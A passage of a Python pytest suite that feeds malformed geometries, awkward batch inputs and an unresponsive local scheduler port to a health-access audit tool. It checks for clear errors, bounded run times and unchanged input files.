# ===== 8. Township boundaries ================================================================================

@case("townships", "overlapping townships", error=["townships.gpkg", "001", "002", "overlap"],
      ok=noted("overlap"))
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    write_townships(s, polygons=[shapely.box(X0, Y0, X0 + 3000, Y0 + 4000),
                                 shapely.box(X0 + 1000, Y0, X0 + 4000, Y0 + 4000)])
    return audit_run(s, tmp / "out")


@case("townships", "self-intersecting township", error=["townships.gpkg", "001", "002", "invalid", "self"],
      ok=noted("invalid", "self", "repair"))
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    bowtie = shapely.Polygon([(X0, Y0), (X0 + 2000, Y0 + 4000), (X0 + 2000, Y0), (X0, Y0 + 4000)])
    write_townships(s, polygons=[bowtie, shapely.box(X0 + 2000, Y0, X0 + 4000, Y0 + 4000)])
    return audit_run(s, tmp / "out")


@case("townships", "empty township layer", error=["townships.gpkg", "boundaries"])
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    write_townships(s, names=[], polygons=[], classes=[])
    return audit_run(s, tmp / "out")


@case("townships", "townships declared EPSG:4326 holding metres", error=["townships.gpkg", "boundaries", "crs"])
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    write_townships(s, crs="EPSG:4326")
    return audit_run(s, tmp / "out")


# ===== 9. Batch ==============================================================================================

@pytest.fixture(scope="module")
def scheduler(tmp_path_factory):
    """The address of a two-worker local Dask cluster shared by the batch cases."""
    pytest.importorskip("distributed")
    from healthreach.batch import dask_client

    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("HEALTHREACH_CACHE", str(tmp_path_factory.getbasetemp() / "cache"))  # inherited by the workers
        with dask_client(workers=2, dashboard_address=None) as client:
            yield client.scheduler.address


def batch_rows(run: Run) -> pd.DataFrame | None:
    path = run.out / "summary.csv"
    return pd.read_csv(path, encoding="utf-8-sig", dtype={"district": str}) if path.is_file() else None


def batch_hostile_ok(o: Outcome, run: Run, reference: dict) -> list[str]:
    """Every good study audited with the clean figures; the missing table entry is an error row; all files written."""
    table = batch_rows(run)
    problems = [f"no {name}" for name in ("summary.csv", "summary.xlsx") if not (run.out / name).is_file()]
    if table is None:
        return problems
    ok = table[table["status"] != "error"]
    if len(ok) != len(HOSTILE):
        problems.append(f"{len(ok)} studies audited, expected {len(HOSTILE)}")
    share = reference["primary_care_15min"]["share"]
    bad = ok[~np.isclose(ok["primary_care_15min_share"], share, atol=1e-4)]
    if len(bad):
        problems.append(f"primary_care_15min_share {bad['primary_care_15min_share'].tolist()}, expected {share}")
    if (table["status"] == "error").sum() != 1:
        problems.append(f"{(table['status'] == 'error').sum()} error rows, expected 1 (the missing entry)")
    return problems + problems_inert_files(run.out)


@case("batch", "hostile study names and table names, one missing table entry", ok=batch_hostile_ok)
def _(template, tmp):
    rows = []
    for k, text in HOSTILE.items():
        s = copy_study(template, tmp / "in" / "studies" / k)
        edit_study(s, name=text)
        rows.append({"study": f"studies/{k}", "name": text})
    rows.append({"study": "studies/missing", "name": "missing"})
    pd.DataFrame(rows).to_csv(tmp / "in" / "table.csv", index=False, quoting=csv.QUOTE_ALL)  # CR inside quotes
    # (the table sits in a folder of its own: --out may not lie in an input's folder)
    return Run(["batch", tmp / "in" / "table.csv", "--out", tmp / "out", "--no-map", "--offline"],
               [tmp / "in" / "studies", tmp / "in" / "table.csv"], tmp / "out")


def batch_missing_path_ok(o: Outcome, run: Run, reference: dict) -> list[str]:
    table = batch_rows(run)
    if table is None:
        return ["no summary.csv"]
    problems = []
    if (table["status"] != "error").sum() != 1:
        problems.append("the good study was not audited")
    errors = table[table["status"] == "error"]
    if len(errors) != 1 or "nowhere" not in " ".join(map(str, errors.to_numpy().ravel())):
        problems.append("the missing path is not an error row naming it")
    return problems + problems_inert_files(run.out)


@case("batch", "a missing study path among the arguments", ok=batch_missing_path_ok)
def _(template, tmp):
    s = copy_study(template, tmp / "good")
    return Run(["batch", s, tmp / "nowhere" / "study.yaml", "--out", tmp / "out", "--no-map", "--offline"],
               [s], tmp / "out")


@case("batch", "batch --out is the study folder", error=INPUT_FOLDER_TOKENS)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    return Run(["batch", s, "--out", s, "--no-map", "--offline"], [s], s)


@case("batch", "batch --out is the folder holding the study (its sub-folder is the study's)",
      error=INPUT_FOLDER_TOKENS)
def _(template, tmp):
    s = copy_study(template, tmp / "root" / "s")
    return Run(["batch", s, "--out", tmp / "root", "--no-map", "--offline"], [s], tmp / "root")


@case("batch", "batch --out under a file", error=OUT_TOKENS)
def _(template, tmp):
    s = copy_study(template, tmp / "s")
    (tmp / "a-file").write_text("x", encoding="utf-8")
    return Run(["batch", s, "--out", tmp / "a-file" / "out", "--no-map", "--offline"], [s, tmp / "a-file"], None)


@pytest.fixture
def silent_port():
    """A local port that accepts connections (the kernel completes the handshake) and never answers."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.bind(("127.0.0.1", 0))
        sock.listen(16)
        yield sock.getsockname()[1]


def _timeout_option() -> list[str]:
    """``--<name> 2`` when batch has an option bounding the wait for the scheduler, else nothing."""
    o = invoke(["batch", "--help"])
    found = re.search(r"(--[\w-]*timeout[\w-]*)", o.text)
    return [found.group(1), "2"] if found else []


def test_batch_scheduler_that_never_answers_fails_within_a_bounded_time(template, tmp_path, silent_port):
    """class: batch. A scheduler port that accepts and never answers: a clear error naming it, never a hang."""
    s = copy_study(template, tmp_path / "s")
    option = _timeout_option()
    # a hang never ends; these limits leave room for a busy machine's start-up (the default bound is 15 s)
    limit = 60.0 if option else 75.0
    address = f"tcp://127.0.0.1:{silent_port}"
    before = snapshot([s], None)
    outcome = run_subprocess(["batch", s, "--scheduler", address, *option, "--out", tmp_path / "out", "--no-map"],
                             time_limit_s=limit)
    problems = problems_common(outcome, limit) + problems_error(outcome, [address, "scheduler"], [str(tmp_path)])
    problems += problems_inputs_unchanged(before, snapshot([s], None), tmp_path / "out")
    assert not problems, "\n".join(problems)


# --- the one test that runs every case ---------------------------------------------------------------------

def _check(c: Case, template: Path, tmp: Path, reference: dict, scheduler_address: str | None) -> list[str]:
    run = c.build(template, tmp)
    if scheduler_address and run.args[0] == "batch":
        run.args += ["--scheduler", scheduler_address]
    out = run.out
    roots = [p for p in run.inputs if p.exists()]
    before = snapshot(roots, out)
    if run.subprocess:
        o = run_subprocess(run.args, run.time_limit_s, cwd=run.cwd)
    else:
        previous = Path.cwd()
        if run.cwd:
            os.chdir(run.cwd)
        try:
            o = invoke(run.args, run.time_limit_s)
        finally:
            os.chdir(previous)
    EXIT_CODES[c.id] = o.exit_code
    problems = problems_common(o, run.time_limit_s)
    problems += problems_inputs_unchanged(before, snapshot(roots, out), out)
    if o.timed_out or o.traceback:
        return problems
    hide = [str(tmp), str(tmp.resolve())]
    if "--out" in run.args and Path(run.args[run.args.index("--out") + 1]).is_absolute():
        run.culprits.append(str(run.args[run.args.index("--out") + 1]))  # naming the folder names the culprit
    if o.exit_code == 0 and c.ok is not None:
        problems += problems_success(o) + c.ok(o, run, reference)
    elif o.exit_code != 0 and c.error is not None:
        problems += problems_error(o, c.error + run.culprits, hide)
    elif o.exit_code == 0:  # success where only an error is right
        problems.append("exit 0, but only a clear error is right here (a silent wrong figure or lost data): "
                        + " ".join(o.text.split())[:300])
    else:
        problems += problems_success(o)
    return problems


@pytest.mark.parametrize("c", CASES, ids=[f"{c.cls}: {c.id}" for c in CASES])
def test_hostile_case(c: Case, template, reference, tmp_path, request):
    """One hostile case meets the contract of the module docstring."""
    address = request.getfixturevalue("scheduler") if c.cls == "batch" else None
    problems = _check(c, template, tmp_path, reference, address)
    request.node.user_properties.append(("exit_code", EXIT_CODES.get(c.id)))  # for the suite's tally (junit XML)
    assert not problems, f"[{c.cls}] {c.id}:\n  " + "\n  ".join(problems)
